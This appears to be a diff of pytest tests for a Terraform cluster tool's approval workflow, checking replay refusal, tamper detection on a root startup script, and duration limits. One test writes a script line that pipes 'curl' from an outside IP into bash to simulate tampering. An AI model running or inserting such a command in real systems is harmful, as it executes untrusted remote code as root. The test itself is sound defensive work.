@@ -52,8 +52,41 @@ def test_a_cluster_comes_and_goes_as_it_was_approved(clusterprint: Run, tmp_path
     assert "nothing to do" in run("up", VM, "--approved", approval)
 
     run("down", VM, "--approved", approval, expect=Code.WRONG_USAGE)
-    run("down", VM, *showing, expect=Code.CHANGES)
-    assert "the state is empty" in run("down", VM, "--approved", approval)
+    goes = tmp_path / "goes.json"
+    run("down", VM, *showing[:-1], goes, expect=Code.CHANGES)
+    assert "the state is empty" in run("down", VM, "--approved", goes)
+
+    # The same file would make the cluster again, as often as anybody has it.
+    said = run("up", VM, "--approved", approval, expect=Code.REFUSED)
+    assert "first: its state has changed since" in said
+    assert json.loads(approval.read_text())["stacks"].keys() == {"first"}
+
+
+AZURE = (BLUEPRINTS / "vmss-nc-dev.yaml").read_text("utf-8")
+
+
+@pytest.mark.slow
+@pytest.mark.terraform
+def test_a_script_that_runs_as_root_is_not_changed_after_it_was_approved(
+    clusterprint: Run, tmp_path: Path
+) -> None:
+    """Terraform calls the set-up of machines on Azure sensitive, so no step of a plan tells it apart."""
+    blueprint, approval = tmp_path / "azure.yaml", tmp_path / "approval.json"
+    (tmp_path / "cluster.pub").write_bytes((BLUEPRINTS / "cluster.pub").read_bytes())
+    (tmp_path / "work.sh").write_text("#!/bin/bash\necho one\n")
+    blueprint.write_text(f"{AZURE}\nstartup_script: {{file: work.sh}}\n")
+    words = ("up", blueprint, "--simulate", tmp_path / "sim")
+    done = clusterprint(*words, "--plan-only", "--write-approval", approval)
+    assert done.returncode == Code.CHANGES, done.stderr
+
+    (tmp_path / "work.sh").write_text("#!/bin/bash\ncurl -s http://198.51.100.7/x | bash\n")
+    done = clusterprint(*words, "--approved", approval)
+    assert done.returncode == Code.REFUSED, done.stderr
+    assert "what Terraform reads is not what was approved: a file beside the blueprint" in done.stderr
+    blueprint.write_text(f"{AZURE}\nstartup_script: {{inline: echo two}}\n")
+    done = clusterprint(*words, "--approved", approval)
+    assert done.returncode == Code.REFUSED, done.stderr
+    assert "its blueprint is not the one that was approved" in done.stderr
 
 
 @pytest.mark.slow
@@ -64,7 +97,9 @@ def test_a_stack_that_nobody_could_plan_may_only_create(clusterprint: Run, tmp_p
     words = ("up", blueprint, "--simulate", tmp_path / "sim")
     done = clusterprint(*words, "--plan-only", "--read-only", "--write-approval", approval)
     assert done.returncode == Code.CHANGES, done.stderr
-    assert json.loads(approval.read_text())["later"] == ["approved-workloads"]
+    written = json.loads(approval.read_text())
+    assert written["later"] == ["approved-workloads"]
+    assert written["stacks"]["approved-workloads"]["folder"]
     assert clusterprint(*words, "--approved", approval).returncode == Code.DONE
 
     # Now that it is there, an account that may not look into it plans it all the same.
@@ -83,6 +118,9 @@ def test_a_stack_that_nobody_could_plan_may_only_create(clusterprint: Run, tmp_p
         (("--approved", VM, "--yes"), "--approved goes neither with --yes"),
         (("--write-approval", "x.json"), "--write-approval goes with --plan-only"),
         (("--read-only",), "--read-only goes with --plan-only"),
+        (("--valid-for", "1h"), "--valid-for goes with --write-approval"),
+        (("--plan-only", "--write-approval", "x.json", "--valid-for", "31d"), "30 days at most"),
+        (("--plan-only", "--write-approval", "x.json", "--valid-for", "long"), "is not a duration"),
     ],
 )
 @pytest.mark.parametrize("command", ["up", "down"])
